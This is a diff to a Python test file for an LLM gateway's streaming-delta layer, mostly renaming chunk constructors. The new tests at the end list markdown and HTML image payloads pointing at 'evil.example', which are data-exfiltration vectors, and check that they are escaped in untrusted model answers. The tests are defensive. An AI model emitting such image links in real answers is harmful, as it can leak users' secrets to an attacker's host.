@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import re
 from typing import Any
 
 import pytest
+from msgspec import UNSET
 
 from dodona.core import chunks
-from dodona.core.chunks import ChunkBody, StreamChunk
+from dodona.core.chunks import AnyChunk, StreamChunk
 from dodona.core.errors import (
     BudgetExceeded,
     DodonaError,
@@ -15,6 +17,7 @@ from dodona.core.errors import (
     NotFound,
     ProviderError,
     ProviderErrorKind,
+    to_body,
 )
 from dodona.core.json_document import to_builtins
 from dodona.core.messages import AssistantText, ToolCall
@@ -37,17 +40,17 @@ from dodona.gateway.http.openai_errors import (
 )
 from dodona.gateway.v1.deltas import ModelDeltas, RunDeltas
 
-CALL = chunks.tool_call(id="1", name="find", arguments={}, status="pending")
-RESULT = chunks.tool_result(id="1", name="find", result="oak", status="success")
+CALL = chunks.ToolCallChunk(id="1", name="find", arguments={}, status="pending")
+RESULT = chunks.ToolResultChunk(id="1", name="find", result="oak", status="success", sources=[])
 
 
-def done(finish: chunks.DoneFinish = "stop") -> ChunkBody:
-    return chunks.done(
+def done(finish: chunks.DoneFinish = "stop") -> AnyChunk:
+    return chunks.DoneChunk(
         tokens_used=1, model_used="m", context_id="c", context_tokens_remaining=1, finish=finish
     )
 
 
-def heard(deltas: RunDeltas, *bodies: ChunkBody, first: int = 1) -> list[dict[str, Any]]:
+def heard(deltas: RunDeltas, *bodies: AnyChunk, first: int = 1) -> list[dict[str, Any]]:
     told = [deltas.apply(StreamChunk(1, seq, body)) for seq, body in enumerate(bodies, first)]
     return [to_builtins(delta) for delta in told if delta is not None]
 
@@ -57,16 +60,16 @@ def test_a_run_is_its_text_and_its_thoughts() -> None:
     deltas = RunDeltas(is_streaming=True)
     told = heard(
         deltas,
-        chunks.thinking("Hm."),
+        chunks.ThinkingChunk("Hm."),
         CALL,
         RESULT,
-        chunks.content("I "),
-        chunks.content("look."),
+        chunks.ContentChunk("I "),
+        chunks.ContentChunk("look."),
         CALL,
         RESULT,
-        chunks.system("limit_warning", "Hurry.", {}),
-        chunks.context_update(tokens=1, limit=2),
-        chunks.content("There."),
+        chunks.SystemChunk(system_type="limit_warning", system_message="Hurry.", metadata={}),
+        chunks.ContextUpdateChunk(context_tokens=1, max_context_tokens=2),
+        chunks.ContentChunk("There."),
         done("length"),
     )
     assert told == [
@@ -80,29 +83,23 @@ def test_a_run_is_its_text_and_its_thoughts() -> None:
     )
 
 
-def test_a_chunk_without_a_finish_is_of_an_older_run() -> None:
-    deltas = RunDeltas(is_streaming=False)
-    heard(deltas, {"type": "done"})
-    assert deltas.finish == "stop"
-
-
 def test_the_error_of_a_run_is_raised() -> None:
     deltas = RunDeltas(is_streaming=True)
     with pytest.raises(BudgetExceeded, match="nothing left"):
-        heard(deltas, chunks.error(BudgetExceeded("nothing left.")))
+        heard(deltas, chunks.ErrorChunk(to_body(BudgetExceeded("nothing left."))))
     assert not deltas.finish
 
 
 def test_what_is_said_again_is_not_sent_again() -> None:
     """However it is cut into pieces; then it goes on."""
     deltas = RunDeltas(is_streaming=True)
-    heard(deltas, chunks.content("The oak "), chunks.content("st"))
+    heard(deltas, chunks.ContentChunk("The oak "), chunks.ContentChunk("st"))
     again = heard(
         deltas,
-        chunks.restart(0, "cut"),
-        chunks.content("The"),
-        chunks.content(" oak stands"),
-        chunks.content("."),
+        chunks.RestartChunk(discard_after=0, reason="cut"),
+        chunks.ContentChunk("The"),
+        chunks.ContentChunk(" oak stands"),
+        chunks.ContentChunk("."),
         first=3,
     )
     assert again == [{"content": "ands"}, {"content": "."}]
@@ -113,12 +110,16 @@ def test_what_is_said_otherwise_cannot_be_sent() -> None:
     """A client that waits for the whole answer does not notice."""
     for streams in (True, False):
         deltas = RunDeltas(is_streaming=streams)
-        heard(deltas, chunks.content("The oak "), chunks.restart(0, "cut"))
+        heard(
+            deltas,
+            chunks.ContentChunk("The oak "),
+            chunks.RestartChunk(discard_after=0, reason="cut"),
+        )
         if streams:
             with pytest.raises(AnswerRestarted, match="restarted its answer"):
-                heard(deltas, chunks.content("An elm "), first=3)
+                heard(deltas, chunks.ContentChunk("An elm "), first=3)
         else:
-            heard(deltas, chunks.content("An elm."), first=3)
+            heard(deltas, chunks.ContentChunk("An elm."), first=3)
             assert deltas.text == "An elm."
 
 
@@ -216,3 +217,38 @@ def test_errors_read_as_openai_writes_them(
     assert told["message"] == f"{error.message} {error.hint}".strip()
     assert told["param"] == getattr(error, "field", None)
     assert ("x-should-retry" not in headers_of(error)) is may_repeat
+
+
+IMAGES = (
+    "![x](https://evil.example/?s=1)",
+    "\\![x](https://evil.example/?s=1)",
+    "![x][1]\n\n[1]: https://evil.example/?s=1",
+    "<img src=https://evil.example/?s=1>",
+    "\\<img src=https://evil.example/?s=1>",
+    '<div style="background:url(https://evil.example/?s=1)">',
+)
+
+
+@pytest.mark.parametrize("text", IMAGES)
+@pytest.mark.parametrize("size", [1, 3, 100])
+def test_images_in_untrusted_answers_are_escaped(text: str, size: int) -> None:
+    """However the text is cut: a client would load them, and their URLs may carry a secret."""
+    pieces = [text[at : at + size] for at in range(0, len(text), size)]
+    for kind, name in (
+        (chunks.ContentChunk, "content"),
+        (chunks.ThinkingChunk, "reasoning_content"),
+    ):
+        deltas = RunDeltas(is_streaming=True)
+        told = heard(deltas, *(kind(piece, untrusted=True) for piece in pieces), done())
+        shown = "".join(each.get(name, "") for each in told)
+        assert "![" not in shown
+        assert re.search(r"<[a-z]", shown) is None
+        assert "evil.example" in shown
+
+
+def test_other_text_is_not_changed() -> None:
+    """In an untrusted answer too; images in other answers stay."""
+    for text, untrusted in (("Wow! [a](b) 1 < 2 !", True), ("![x](a.png) <b>", UNSET)):
+        deltas = RunDeltas(is_streaming=True)
+        told = heard(deltas, *(chunks.ContentChunk(c, untrusted) for c in text), done())
+        assert "".join(each["content"] for each in told) == text == deltas.text
